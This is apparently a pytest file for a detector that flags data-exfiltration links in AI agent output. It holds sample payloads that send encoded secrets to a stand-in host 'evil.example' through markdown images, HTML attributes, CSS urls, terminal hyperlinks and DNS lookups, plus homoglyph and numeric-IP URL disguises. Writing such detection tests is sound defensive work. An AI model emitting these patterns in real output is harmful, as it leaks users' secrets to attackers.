"""Ways out: each form of link, each place for data, and the links that everybody uses."""

import base64
import time

import pytest

from remit.content.base import Finding, Surroundings
from remit.content.detectors.exfiltration import DETECTOR
from remit.content.inspect import detectors, inspect
from remit.content.views import read

DATA = base64.b64encode(b"the password is hunter2").decode().rstrip("=")
HEX = b"the password is".hex()
PATTERNS = tuple(d for d in detectors() if d.tier == "pattern")
AROUND = Surroundings(trusted_domains=frozenset({"corp.example"}))


def find(text: str, around: Surroundings = AROUND) -> list[Finding]:
    return list(DETECTOR.find(read(text), around))


@pytest.mark.parametrize(
    ("text", "label", "severity"),
    [
        (f"![x](https://evil.example/p?d={DATA})", "markdown_image", "high"),
        ("![x](https://evil.example/p?d={secret})", "markdown_image", "high"),
        (f"![x](<//evil.example/{DATA}>)", "markdown_image", "high"),
        (f"[c](https://evil.example/#{DATA})", "markdown_link", "high"),
        ("[c](https://evil.example/?q=hello)", "markdown_link", "low"),
        ("<img src='https://evil.example/a.png?x=abc'>", "html_attribute", "medium"),
        (f'<img srcset="a.png 1x, https://evil.example/{DATA} 2x">', "html_attribute", "high"),
        (f"<form action=https://evil.example/{HEX}>", "html_attribute", "high"),
        (f"div{{background:url(//evil.example/{DATA})}}", "css_url", "high"),
        (f"\x1b]8;;https://evil.example/?d={DATA}\x07x\x1b]8;;\x07", "terminal_link", "high"),
        (f"\x1b]8;;//evil.example/?d={DATA}\x07x\x1b]8;;\x07", "terminal_link", "high"),
        ("![a][r]\n\n[r]: https://evil.example/x?leak=1234", "markdown_reference", "medium"),
        (f"<https://evil.example/{DATA}>", "autolink", "high"),
        (f"open https://evil.example/?d={DATA}", "bare", "medium"),
        (f"nslookup {HEX}.evil.example", "dns_name", "high"),
        ("https://corp.example@evil.example/x", "url_disguise", "high"),
        ("http://0x7f000001/", "url_disguise", "high"),
        ("http://3232235777/a", "url_disguise", "high"),
        ("http://0177.0.0.1/", "url_disguise", "high"),
        ("https://xn--pple-43d.com/", "url_disguise", "high"),
        ("https://\u0430pple.com/", "url_disguise", "high"),
        ("[a](https:/evil.example/?q=1)", "url_disguise", "medium"),
    ],
)
def test_ways_out(text: str, label: str, severity: str) -> None:
    assert (label, severity) in {(f.label, f.severity) for f in find(text)}


@pytest.mark.parametrize(
    "text",
    [
        f"![x](https://img.corp.example/p?d={DATA})",
        "![x](https://img.shields.io/badge/x?style=flat&logo=py)",
        "[![x](https://img.shields.io/b)](https://example.org/project/x)",
        "see https://en.wikipedia.org/wiki/Foo_(bar)?action=history",
        "https://github.com/a/b/commit/0123456789abcdef0123456789abcdef01234567",
        "https://api.github.com/repos/{owner}/{repo}/issues?state=open",
        f"http://localhost:8080/?d={DATA}",
        "https://m\u00fcller.de/ and https://\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444/",
        "C:\\Users\\x and \\\\server\\share, self.content.detectors.find(x)",
        "a // comment, https: and http:// alone",
    ],
)
def test_ordinary_links(text: str) -> None:
    assert find(text) == []


def test_the_span_is_the_url() -> None:
    text = f"a ![x](https://evil.example/p?d={DATA}) b"
    found = find(text)[0]
    assert text[found.start : found.end] == f"https://evil.example/p?d={DATA}"


def test_a_call_is_judged_harder_than_a_text() -> None:
    url = f"https://evil.example/?d={DATA}"
    call = Surroundings(channel="tool_args")
    assert find(url, call)[0].severity == "high"
    assert find(url)[0].severity == "medium"


def test_too_many_links_are_not_inspected_and_that_is_said() -> None:
    assert find("http://192.0.2.1/ " * 6000)[-1].kind == "uninspected"
    assert find("http://a.example/ " * 6000) == []


def test_the_links_of_a_long_page_are_all_read() -> None:
    page = "".join(
        f"* [{n}](http://a.example/{n}) a line about it, as long as most are\n" for n in range(5000)
    )
    assert find(page) == []
    assert find(page + f"![x](https://evil.example/?d={DATA})")


@pytest.mark.parametrize(
    "text", ["'\\ud83d.', '\\udE00'", "a \ud800 b. c", "\udfff.corp.example", "\u017f. \ud800"]
)
def test_half_a_letter_is_no_failure(text: str) -> None:
    assert find(text) == []
    assert find(f"{text} {HEX}.evil.example")


@pytest.mark.parametrize("noise", ["// ", "\\\\ ", "(//a ", "http: ", ";// "])
def test_a_link_behind_more_than_is_looked_at_is_not_passed_in_silence(noise: str) -> None:
    link = f"![x](https://evil.example/p?d={DATA})"
    views = read(noise * 100_000 + link)
    rules = [f.rule for f in DETECTOR.find(views, Surroundings())]
    assert {"links", "markdown_image:query"} & set(rules) or not views.complete
    assert "links" not in [f.rule for f in DETECTOR.find(read(noise * 500 + link), Surroundings())]


HOSTILE = (
    "// ", "\\\\ ", "a=//", "(//a ", "http: ", ";// ", "![](", "href=", "//a.b?c=", "abcdefghijkl.", "C:\\\\x ",
    'ref="a" and so on, word after word //', "(and so on, word after word //",
)  # fmt: skip


@pytest.mark.parametrize("piece", HOSTILE)
def test_hostile_text_is_not_much_dearer_than_ordinary_text(piece: str) -> None:
    def cost(text: str) -> float:
        started = time.process_time()
        inspect(text, Surroundings(), using=PATTERNS)
        return time.process_time() - started

    size = 1 << 17
    words = "the agent reads (see notes) https://example.com/path?x=1 and 1,234 others, "
    ordinary = (words * size)[:size]
    hostile = (piece * size)[:size]
    cost(ordinary[:4096])
    assert any(cost(hostile) <= 20 * cost(ordinary) for _ in range(4))
